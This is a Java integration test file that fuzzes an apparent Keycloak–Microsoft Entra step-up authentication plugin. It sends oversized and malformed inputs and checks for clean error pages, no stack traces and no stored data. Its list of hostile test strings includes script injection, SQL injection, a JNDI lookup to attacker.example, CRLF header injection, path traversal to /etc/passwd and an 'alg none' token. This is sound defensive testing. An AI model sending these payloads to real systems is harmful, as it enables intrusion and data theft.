package org.entrasfo.it.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.entrasfo.it.security.FreshFactorIT.assertReadable;
import static org.entrasfo.it.support.AttackLedger.assertNoTokenFrom;
import static org.entrasfo.it.support.EntraRoundTrip.newBrowser;
import static org.entrasfo.it.support.EntraRoundTrip.send;
import static org.entrasfo.it.support.EntraRoundTrip.sendAsGet;

import java.net.URI;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import org.entrasfo.entrasim.AuthorizationRequest;
import org.entrasfo.entrasim.MicrosoftCloud;
import org.entrasfo.it.keycloak.KeycloakAdmin;
import org.entrasfo.it.support.Browser;
import org.entrasfo.it.support.EntraUser;
import org.entrasfo.it.support.KeycloakUnderTest;
import org.entrasfo.it.support.LoginActionUrl;
import org.entrasfo.it.support.OurPages;
import org.entrasfo.it.support.OurPages.Opened;
import org.entrasfo.it.support.ReferenceDevices;
import org.entrasfo.it.support.ServerLog;
import org.entrasfo.it.support.TenantRealm;
import org.entrasfo.pushdevice.PushDevice;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Isolated;

/**
 * Oversized and malformed input on every field of our pages and every parameter of Entra's request: a page or an
 * error posted to Entra, never a server error or a stack trace (in the answer or the server's log), and nothing
 * stored. Sizes stay at a few hundred KB. (Admin endpoints: {@code BadAdminInputIT}; push device requests:
 * {@code PushApprovalIT}.)
 */
// Runs alone: it reads the server log of its own requests, which no other class may write to meanwhile.
@Isolated
class BadInputIT {

    static final String HUGE = "9".repeat(200_000);
    static final String LONG = "x".repeat(20_000);
    /** Text that breaks careless code: markup, quotes, a NUL, a right-to-left override, a lone surrogate, full-width digits. */
    static final List<String> NASTY = List.of("<script>alert(1)</script>", "' OR '1'='1", "\u0000", "\u202e123456", "\ud800",
            "１２３４５６", "${jndi:ldap://attacker.example/a}", "%00%0d%0aSet-Cookie:x=y", "../../../../etc/passwd");

    private static final KeycloakAdmin ADMIN = KeycloakUnderTest.keycloak().admin();

    @Test
    void everyEntraRequestParameterOversizedOrMalformedGetsAClearAnswerAndStoresNothing() {
        TenantRealm realm = TenantRealm.of(MicrosoftCloud.GLOBAL);
        EntraUser user = realm.newUser();
        String valid = realm.hintFor(user).sign();
        List<Map.Entry<String, String>> bad = new ArrayList<>(List.of(
                Map.entry("id_token_hint", HUGE),
                Map.entry("id_token_hint", valid + "." + LONG),
                Map.entry("id_token_hint", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0"),
                Map.entry("id_token_hint", "a.b.c"),
                Map.entry("id_token_hint", "{\"alg\":\"none\"}"),
                Map.entry("state", LONG),
                Map.entry("nonce", LONG),
                Map.entry("client-request-id", LONG),
                Map.entry("claims", "{\"id_token\":"),
                Map.entry("claims", "[".repeat(20_000)),
                Map.entry("claims", "{\"id_token\":{\"acr\":{\"values\":\"possessionorinherence\"},\"amr\":{\"values\":[5,null,{}]}}}"),
                Map.entry("claims", "{\"id_token\":{\"acr\":{\"essential\":true,\"values\":[\"" + LONG + "\"]}}}"),
                Map.entry("redirect_uri", "https://login.microsoftonline.com/common/federation/externalauthprovider/" + LONG),
                Map.entry("response_type", LONG),
                Map.entry("response_mode", "fragment"),
                Map.entry("scope", LONG),
                Map.entry("client_id", LONG),
                Map.entry("max_age", "-1e309"),
                Map.entry("ui_locales", LONG),
                Map.entry("prompt", LONG)));
        for (String nasty : NASTY) {
            for (String parameter : List.of("id_token_hint", "client-request-id", "state", "nonce", "claims")) {
                bad.add(Map.entry(parameter, nasty));
            }
        }
        int usersBefore = ADMIN.get("/" + realm.name() + "/users/count").asInt();
        long mark = ServerLog.mark();

        for (Map.Entry<String, String> parameter : bad) {
            AuthorizationRequest request = realm.requestWith(realm.hintFor(user).sign()).set(parameter.getKey(), parameter.getValue());
            Browser.Page post = send(newBrowser(), realm, request);
            Browser.Page get = parameter.getValue().length() > 4000 ? post : sendAsGet(newBrowser(), realm, request);
            assertNoTokenFrom("malformed " + parameter.getKey(), post, get);
            assertReadable(post, get);
        }

        assertThat(ServerLog.ourStackTracesSince(mark)).as("stack traces in the server log").isEmpty();
        assertThat(ADMIN.get("/" + realm.name() + "/users/count").asInt()).as("no user created").isEqualTo(usersBefore);
    }

    @Test
    void everyFieldOfOurFormsOversizedOrMalformedGetsAPageAndStoresNothing() {
        long mark = ServerLog.mark();

        Opened otp = OurPages.otpPage();
        assertBadPostsAnswered("OTP form", otp, OurPages.OTP_FORM, variants(Map.of("otp", ""), "otp", "selectedCredentialId"));
        assertThat(otp.realm().otpCredentialLabels(otp.user())).hasSize(1);

        Opened code = OurPages.codePage();
        int texts = OurPages.textsTo(OurPages.mobileOf(code)).size();
        assertBadPostsAnswered("code form", code, OurPages.CODE_FORM, variants(Map.of("verify", "true"), "code"));
        assertThat(OurPages.textsTo(OurPages.mobileOf(code))).hasSize(texts);

        Opened enrolment = OurPages.codeEnrolmentPage();
        int sent = KeycloakUnderTest.twilio().messages().size();
        assertBadPostsAnswered("code enrolment form", enrolment, OurPages.CODE_ENROL_FORM, variants(Map.of(), "destination"));
        assertThat(KeycloakUnderTest.twilio().messages()).as("no text message to a malformed number").hasSize(sent);
        assertThat(attributes(enrolment).has("phoneNumber")).as("no number stored").isFalse();

        Opened otpEnrolment = OurPages.otpEnrolmentPage();
        assertBadPostsAnswered("OTP enrolment form", otpEnrolment, OurPages.OTP_ENROL_FORM, variants(Map.of("totp", "123456"), "totp", "userLabel"));
        assertThat(otpEnrolment.realm().otpCredentialLabels(otpEnrolment.user())).as("no token enrolled").isEmpty();

        Opened push = OurPages.pushEnrolmentPage();
        assertBadPostsAnswered("push form", push, OurPages.PUSH_FORM, variants(Map.of(), "sfo-push-action"));

        assertThat(ServerLog.ourStackTracesSince(mark)).as("stack traces in the server log").isEmpty();
    }

    @Test
    void aDeviceNameOversizedOrMalformedIsRefusedAndNoDeviceIsStored() {
        long mark = ServerLog.mark();
        for (String name : List.of("x".repeat(5_000), "", " ", "\u0000phone", "line\nbreak")) {
            Opened enrolment = OurPages.pushEnrolmentPage();
            String link = ReferenceDevices.enrolmentLinkOn(enrolment.page());
            PushDevice.Answer answer = ReferenceDevices.generate(name, KeycloakUnderTest.keycloak().httpClientBuilder().build()).tryEnrol(link, null);

            assertThat(answer.status()).as("device name %s chars: %s", name.length(), answer.body()).isEqualTo(400);
            assertThat(answer.body().path("error").asText()).isEqualTo("invalid_request");
            assertThat(ADMIN.get("/" + enrolment.realm().name() + "/users/" + enrolment.realm().userId(enrolment.user()) + "/credentials"))
                    .as("no device stored").isEmpty();
        }
        assertThat(ServerLog.ourStackTracesSince(mark)).as("stack traces in the server log").isEmpty();
    }

    /** The base fields, then each named field oversized, huge, and each nasty text, one at a time. */
    static List<Map<String, String>> variants(Map<String, String> base, String... fields) {
        List<Map<String, String>> variants = new ArrayList<>();
        for (String field : fields) {
            for (String value : concat(List.of(LONG, HUGE), NASTY)) {
                Map<String, String> variant = new LinkedHashMap<>(base);
                variant.put(field, value);
                variants.add(variant);
            }
        }
        return variants;
    }

    private static List<String> concat(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    /**
     * Each bad post from the user's own browser to the form the previous answer shows (so every post is one the flow
     * takes as an action): a readable page, no token. Only when an answer has no such form is the step reloaded.
     */
    private static void assertBadPostsAnswered(String form, Opened opened, String selector, List<Map<String, String>> posts) {
        Browser.Page page = opened.page();
        URI step = LoginActionUrl.with(LoginActionUrl.of(page, selector), "session_code", null);
        for (Map<String, String> fields : posts) {
            Browser.Page answer = opened.browser().post(LoginActionUrl.of(page, selector), fields);
            assertNoTokenFrom("bad input in the " + form, answer);
            assertReadable(answer);
            page = answer.form(selector).isPresent() ? answer : opened.browser().get(step);
        }
    }

    private static JsonNode attributes(Opened opened) {
        return ADMIN.get("/" + opened.realm().name() + "/users/" + opened.realm().userId(opened.user())).path("attributes");
    }
}
